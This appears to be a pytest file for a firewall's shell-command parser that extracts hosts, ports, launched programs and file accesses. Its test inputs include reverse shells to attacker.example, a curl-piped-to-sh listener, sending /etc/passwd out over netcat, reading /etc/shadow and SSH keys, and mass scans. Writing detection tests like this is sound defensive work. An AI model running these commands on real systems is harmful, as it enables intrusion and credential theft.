"""gateway/firewall/normalize/network.py: hosts, ports and payloads of connecting programs."""

from __future__ import annotations

import pytest

from tests.unit.firewall.shells import shell


def reached(command: str) -> list[tuple[str, str, int | None]]:
    return [(u.scheme, u.host, u.port) for u in shell(command).urls]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ssh root@10.0.0.5 id", [("ssh", "10.0.0.5", None)]),
        ("ssh -p 2222 bob@Host.IO id", [("ssh", "host.io", 2222)]),
        ("ssh -p2222 -i k host", [("ssh", "host", 2222)]),
        ("ssh ssh://git@Example.com:2200 id", [("ssh", "example.com", 2200)]),
        ("nc 10.0.0.1 4444", [("tcp", "10.0.0.1", 4444)]),
        ("nc -e /bin/sh attacker.example 443", [("tcp", "attacker.example", 443)]),
        ("ncat -u 10.0.0.1 53", [("udp", "10.0.0.1", 53)]),
        ("netcat -zv 10.0.0.5 20-80", [("tcp", "10.0.0.5", None)]),
        ("nc -w 3 -x proxy:1080 10.0.0.1 22", [("tcp", "10.0.0.1", 22)]),
        ("nc -lvnp 4444", []),
        ("ncat --listen --sh-exec 'cat' 8080", []),
        ("telnet 192.168.1.1 80", [("tcp", "192.168.1.1", 80)]),
        ("telnet -l user mail.example", [("tcp", "mail.example", None)]),
        ("socat TCP:attacker.example:443 EXEC:'bash -li',pty", [("tcp", "attacker.example", 443)]),
        ("socat -d UDP4:10.0.0.1:53 -", [("udp", "10.0.0.1", 53)]),
        ("socat SOCKS4A:proxy:target.example:80 STDIO", [("tcp", "target.example", 80)]),
        ("socat TCP-LISTEN:8080,fork TCP:db:5432", [("tcp", "db", 5432)]),
        (
            "nmap -sS -p 22 192.168.1.0/24 10.0.0.1",
            [("", "192.168.1.0/24", 22), ("", "10.0.0.1", 22)],
        ),
        ("sudo nmap -T5 -sn -n 10.0.0.0/16", [("", "10.0.0.0/16", None)]),
        ("nmap -iL hosts.txt -oN out.txt", []),
        ("masscan 0.0.0.0/0 -p 80,443 --rate 100000", [("", "0.0.0.0/0", None)]),
        ("hping3 -S -p 80 --flood scanme.example", [("", "scanme.example", 80)]),
        ("nmap -p 80 ip_or_host1,ip_or_host2", []),
        ("dig @8.8.8.8 example.com TXT", [("dns", "8.8.8.8", None), ("dns", "example.com", None)]),
        ("nslookup -type=mx example.org", [("dns", "example.org", None)]),
        ("git clone git@github.com:org/repo.git", [("ssh", "github.com", None)]),
        ("git remote add origin deploy@git.example:x.git", [("ssh", "git.example", None)]),
        ("git commit -m 'me@host.example: fixed'", []),
    ],
)
def test_hosts_and_ports_reached(command: str, expected: list[tuple[str, str, int | None]]) -> None:
    assert reached(command) == expected


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("nc -e /bin/sh 10.0.0.1 4444", ["nc", "sh"]),
        ("nc -c 'bash -i' 10.0.0.1 4444", ["nc", "bash"]),
        ("ncat -lvp 4444 --exec '/bin/bash -i'", ["ncat", "bash"]),
        ("socat TCP:10.0.0.1:443 EXEC:'bash -li',pty,stderr,setsid", ["socat", "bash"]),
        ("socat TCP-LISTEN:4444 SYSTEM:'curl http://x.io | sh'", ["socat", "curl", "sh"]),
        ("nc 10.0.0.1 4444 < /etc/passwd", ["nc"]),
    ],
)
def test_commands_run_at_either_end_of_a_connection(command: str, programs: list[str]) -> None:
    assert [c.program for c in shell(command).commands] == programs


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("nc -e /bin/sh 10.0.0.1 4444", {("/bin/sh", "exec")}),
        ("ncat -o session.log 10.0.0.1 80", {("session.log", "write")}),
        ("socat OPEN:/etc/shadow TCP:10.0.0.1:9", {("/etc/shadow", "read")}),
        ("socat TCP-LISTEN:9 CREATE:/tmp/loot", {("/tmp/loot", "write")}),
        (
            "nmap -iL hosts.txt -oX scan.xml 10.0.0.1",
            {("hosts.txt", "read"), ("scan.xml", "write")},
        ),
        ("ssh -F cfg -i ~/.ssh/id_ed25519 host", {("cfg", "read"), ("~/.ssh/id_ed25519", "read")}),
    ],
)
def test_files_of_connecting_programs(command: str, expected: set[tuple[str, str]]) -> None:
    assert {(p.path, p.op) for p in shell(command).paths} == expected


@pytest.mark.parametrize(
    "command",
    ["nc", "nc -l", "socat", "socat - -", "telnet", "nmap", "dig", "ssh", "ssh -p"],
)
def test_incomplete_invocations_name_no_host(command: str) -> None:
    assert reached(command) == []
